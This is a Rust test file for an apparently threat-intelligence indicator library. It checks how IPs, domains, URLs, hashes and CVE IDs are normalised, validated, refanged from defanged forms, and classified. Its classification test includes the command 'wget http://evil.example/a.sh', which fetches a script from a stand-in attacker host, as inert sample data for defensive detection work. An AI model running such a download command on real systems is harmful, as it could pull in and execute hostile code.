use std::collections::BTreeSet;

use serde_json::{Value, json};
use tahoe_core::{Attribute, Scalar, SubType};

use super::*;
use crate::{FILTERS, RawInput};

fn asked(sub_type: &str, value: Value) -> Result<Vec<(String, Value)>, String> {
    let value = Scalar::try_from(&value).unwrap();
    let forms = forms(&SubType::new(sub_type).unwrap(), &value);
    let told = |form: Attribute| (form.sub_type().to_string(), Value::from(form.data()));
    forms
        .map(|forms| forms.into_iter().map(told).collect())
        .map_err(|unfit| unfit.to_string())
}

#[test]
fn values_are_found_in_whatever_way_they_are_written() {
    for (sub_type, written, meant) in [
        ("ip", json!("203.0.113.9"), ("ipv4", json!("203.0.113.9"))),
        (
            "ip",
            json!("203[.]0[.]113[.]9"),
            ("ipv4", json!("203.0.113.9")),
        ),
        ("ip", json!("2001:DB8:0::9"), ("ipv6", json!("2001:db8::9"))),
        (
            "ipv6",
            json!("2001:0db8:0:0:0:0:0:9"),
            ("ipv6", json!("2001:db8::9")),
        ),
        (
            "ipv6",
            json!("2001[:]db8::9"),
            ("ipv6", json!("2001:db8::9")),
        ),
        (
            "ipv6",
            json!("::ffff:203.0.113.9"),
            ("ipv4", json!("203.0.113.9")),
        ),
        (
            "ipv4",
            json!(" 203.0.113.9\n"),
            ("ipv4", json!("203.0.113.9")),
        ),
        ("domain", json!("YA.RU"), ("domain", json!("ya.ru"))),
        (
            "hostname",
            json!("www[.]Bücher.example."),
            ("hostname", json!("www.xn--bcher-kva.example")),
        ),
        (
            "email_addr",
            json!("Jdoe@Example.COM"),
            ("email_addr", json!("jdoe@example.com")),
        ),
        (
            "email_addr",
            json!("mailto:jdoe[@]example[.]com"),
            ("email_addr", json!("jdoe@example.com")),
        ),
        ("port", json!("80"), ("port", json!(80))),
        ("port", json!(80.0), ("port", json!(80))),
        ("height", json!("24"), ("height", json!(24))),
        ("success", json!("TRUE"), ("success", json!(true))),
        (
            "sha256",
            json!("AB".repeat(32)),
            ("sha256", json!("ab".repeat(32))),
        ),
        (
            "md5",
            json!("AB".repeat(16)),
            ("md5", json!("ab".repeat(16))),
        ),
        (
            "hassh",
            json!("AB".repeat(16)),
            ("hassh", json!("ab".repeat(16))),
        ),
        ("asn", json!("AS64496 EXAMPLE"), ("asn", json!("64496"))),
        ("asn", json!(64496), ("asn", json!("64496"))),
        (
            "cve_id",
            json!("cve-2021-44228"),
            ("cve_id", json!("CVE-2021-44228")),
        ),
        (
            "cidr",
            json!("2001:DB8::/32"),
            ("cidr", json!("2001:db8::/32")),
        ),
        ("country_code2", json!("de"), ("country_code2", json!("DE"))),
        ("phish_id", json!(7), ("phish_id", json!("7"))),
        ("password", json!(123456), ("password", json!("123456"))),
        (
            "mac_address",
            json!("00:1B:44"),
            ("mac_address", json!("00:1b:44")),
        ),
    ] {
        let forms = asked(sub_type, written.clone())
            .unwrap_or_else(|e| panic!("{sub_type} {written}: {e}"));
        let meant = (meant.0.to_owned(), meant.1);
        assert_eq!(forms[0], meant, "{sub_type} {written}");
        let as_written = (sub_type.to_owned(), written);
        let stripped = |v: &Value| v.as_str().map(|t| t.trim().to_owned());
        let there = forms
            .iter()
            .any(|form| *form == as_written || stripped(&form.1) == stripped(&as_written.1));
        assert_eq!(
            there,
            sub_type != "ip" || forms[0].1 == as_written.1,
            "{forms:?}"
        );
        assert!(forms.len() <= 6);
    }
}

#[test]
fn a_text_may_be_another_type_unless_that_is_told() {
    let of = |sub_type, value| {
        asked(sub_type, value)
            .unwrap()
            .into_iter()
            .map(|f| f.1)
            .collect::<Vec<_>>()
    };
    assert_eq!(of("port", json!("80")), [json!(80), json!("80")]);
    assert_eq!(of("port", json!(80)), [json!(80)]);
    assert_eq!(of("size", json!("5")), [json!("5"), json!(5)]);
    assert_eq!(of("size", json!("5.0")), [json!("5.0"), json!(5.0)]);
    assert_eq!(of("size", json!("1e-10")), [json!("1e-10"), json!(1e-10)]);
    assert_eq!(of("size", json!("true")), [json!("true"), json!(true)]);
    assert_eq!(of("size", json!("05")), [json!("05")]);
    assert_eq!(of("size", json!("1e999")), [json!("1e999")]);
    assert_eq!(of("size", json!("nan")), [json!("nan")]);
    assert_eq!(of("size", json!(null)), [json!(null)]);
    // no number under a name that ends as one: its hash is that of another number
    assert_eq!(of("port4", json!("444")), [json!("444")]);
    for name in ["port4", "score1e"] {
        let unfit = asked(name, json!(444)).unwrap_err();
        assert!(
            unfit.starts_with("is a number, and ") && unfit.contains("ends in a digit"),
            "{unfit}"
        );
    }
    assert!(asked("escore", json!(444)).is_ok());
}

#[test]
fn urls_are_looked_for_as_seen_and_in_their_normal_form() {
    let urls = |text: &str| -> BTreeSet<String> {
        let forms = asked("url", json!(text)).unwrap();
        forms
            .into_iter()
            .map(|(_, url)| url.as_str().unwrap().to_owned())
            .collect()
    };
    let all = |urls: &[&str]| {
        urls.iter()
            .map(|url| url.to_string())
            .collect::<BTreeSet<_>>()
    };
    assert_eq!(
        urls("HTTP://Example.com"),
        all(&[
            "HTTP://Example.com",
            "http://example.com/",
            "http://example.com"
        ])
    );
    assert_eq!(
        urls("hxxp://example[.]com/A?b"),
        all(&["hxxp://example[.]com/A?b", "http://example.com/A?b"])
    );
    assert_eq!(
        urls("http://example.com:80/"),
        all(&[
            "http://example.com:80/",
            "http://example.com/",
            "http://example.com"
        ])
    );
    // what a honeypot's tunnel calls a url is none
    assert_eq!(urls("203.0.113.9"), all(&["203.0.113.9"]));
    assert_eq!(urls(&format!("http://{}", "é".repeat(20_000))).len(), 1);
}

#[test]
fn what_cannot_be_a_value_is_told() {
    for (sub_type, value, reason) in [
        ("ipv4", json!("999.1.1.1"), "is not an IPv4 address"),
        (
            "ipv4",
            json!("2001:db8::9"),
            "is an address whose sub_type is ipv6",
        ),
        (
            "ipv6",
            json!("203.0.113.9"),
            "is an address whose sub_type is ipv4",
        ),
        (
            "ipv4",
            json!("203.0.113.0/24"),
            "is a network: its sub_type is cidr",
        ),
        ("ip", json!("example.com"), "is not an IP address"),
        ("ip", json!(7), "is not an IP address"),
        (
            "hostname",
            json!("203.0.113.9"),
            "is an address: its sub_type is ipv4",
        ),
        ("hostname", json!("two words"), "is not the name of a host"),
        (
            "domain",
            json!("http://example.com/a"),
            "is a URL, not the name of a host alone",
        ),
        ("email_addr", json!("jdoe"), "is not a mail address"),
        (
            "port",
            json!("http"),
            "is not a port, which is a number from 0 to 65535",
        ),
        (
            "port",
            json!(65536),
            "is not a port, which is a number from 0 to 65535",
        ),
        (
            "port",
            json!(true),
            "is not a port, which is a number from 0 to 65535",
        ),
        ("width", json!(1.5), "is not a whole number"),
        ("success", json!("maybe"), "is neither true nor false"),
        (
            "sha256",
            json!("ab"),
            "is not a hash of this kind, which has 64 hex digits",
        ),
        (
            "asn",
            json!("Example"),
            "is not the number of an autonomous system, such as 64496 or AS64496",
        ),
        (
            "cidr",
            json!("203.0.113.9"),
            "is not a network, such as 203.0.113.0/24 or 2001:db8::/32",
        ),
        (
            "cve_id",
            json!("log4j"),
            "is not an identifier such as CVE-2021-44228",
        ),
        (
            "country_code2",
            json!("Germany"),
            "is not a country's code of two letters",
        ),
        ("ipv4", json!(""), "is not an IPv4 address"),
        ("domain", json!(" "), "is not the name of a host"),
    ] {
        assert_eq!(
            asked(sub_type, value.clone()),
            Err(reason.to_owned()),
            "{sub_type} {value}"
        );
    }
}

#[test]
fn misspelt_names_are_told_the_nearest() {
    for (wrong, told) in [
        ("passwrod", "did you mean password?"),
        ("Password", "did you mean password?"),
        ("ipv5", "did you mean ipv4?"),
        ("sha265", "did you mean sha256?"),
        ("user_name", "did you mean username?"),
        ("emailaddr", "did you mean email_addr?"),
        (
            "credential",
            "that is a sub_type of objects, not of attributes",
        ),
        ("ssh", "that is a sub_type of events, not of attributes"),
        ("Country", "did you mean country_code2?"),
        ("cve", "did you mean cve_id?"),
        ("weltschmerz", "no filter makes such attributes"),
    ] {
        assert!(!is_known(wrong), "{wrong}");
        assert_eq!(hint(wrong), told, "{wrong}");
    }
    assert_eq!(
        hint(&"x".repeat(1 << 20)),
        "no filter makes such attributes"
    );
    for known in ["ip", "password", "named_pipe", "sensor"] {
        assert!(is_known(known), "{known}");
    }
    assert!(of_sessions("sensor") && of_sessions("sessionid") && !of_sessions("ipv4"));
}

/// Asserts that every value that filters make of their cases is found by its own form.
#[test]
fn what_filters_make_can_be_asked_for() {
    let cases =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/filters");
    let orgid = tahoe_core::OrgId::new("unr").unwrap();
    let mut asked = 0;
    for filter in FILTERS {
        for case in std::fs::read_dir(cases.join(filter.name())).unwrap() {
            let Ok(text) = std::fs::read_to_string(case.unwrap().path().join("input.json")) else {
                continue;
            };
            let input: Value = serde_json::from_str(&text).unwrap();
            let raw = RawInput {
                data: &input["data"],
                orgid: &orgid,
                timezone: "UTC",
                timestamp: tahoe_core::Timestamp::new(1_700_000_000.0).unwrap(),
            };
            let Ok(made) = filter.run(&raw) else { continue };
            for event in made.events {
                let mut nodes: Vec<tahoe_core::Node> = event.children().iter().cloned().collect();
                while let Some(node) = nodes.pop() {
                    match node {
                        tahoe_core::Node::Object(object) => {
                            nodes.extend(object.children().iter().cloned())
                        }
                        tahoe_core::Node::Attribute(attribute) => {
                            let Ok(forms) = forms(attribute.sub_type(), attribute.data()) else {
                                // sightings and MISP keep values that do not agree with their sub_type
                                assert!(
                                    ["sighting", "misp"].contains(&filter.name()),
                                    "{attribute:?}"
                                );
                                continue;
                            };
                            assert!(
                                forms.iter().any(|form| form.hash() == attribute.hash()),
                                "{attribute:?}"
                            );
                            assert!(
                                filter.name() == "sighting"
                                    || is_known(attribute.sub_type().as_str())
                                    || filter.name() == "misp",
                                "{attribute:?}"
                            );
                            asked += 1;
                        }
                    }
                }
            }
        }
    }
    assert!(asked > 200, "{asked}");
}

#[test]
fn a_line_of_a_list_is_known_by_its_look() {
    for (line, sub_type) in [
        ("203.0.113.9", "ip"),
        ("203[.]0[.]113[.]9", "ip"),
        ("2001:db8::9", "ip"),
        ("203.0.113.0/24", "cidr"),
        ("CVE-2021-44228", "cve_id"),
        ("http://evil.example/a.sh", "url"),
        ("hxxp://evil[.]example/a.sh", "url"),
        ("evil.example/a.sh", "url"),
        ("evil.example", "domain"),
        ("www.evil.example", "hostname"),
        ("WWW.EVIL[.]EXAMPLE", "hostname"),
        ("jdoe@example.com", "email_addr"),
        ("ftp://jdoe@example.com/a", "url"),
        ("cat /proc/cpuinfo", "shell_command"),
        ("uname", "shell_command"),
        ("wget http://evil.example/a.sh", "shell_command"),
        ("./a.sh", "shell_command"),
    ] {
        assert_eq!(guess(line).as_str(), sub_type, "{line}");
    }
    for (digits, sub_type) in [(32, "md5"), (40, "sha1"), (64, "sha256"), (128, "sha512")] {
        assert_eq!(guess(&"A".repeat(digits)).as_str(), sub_type);
    }
}
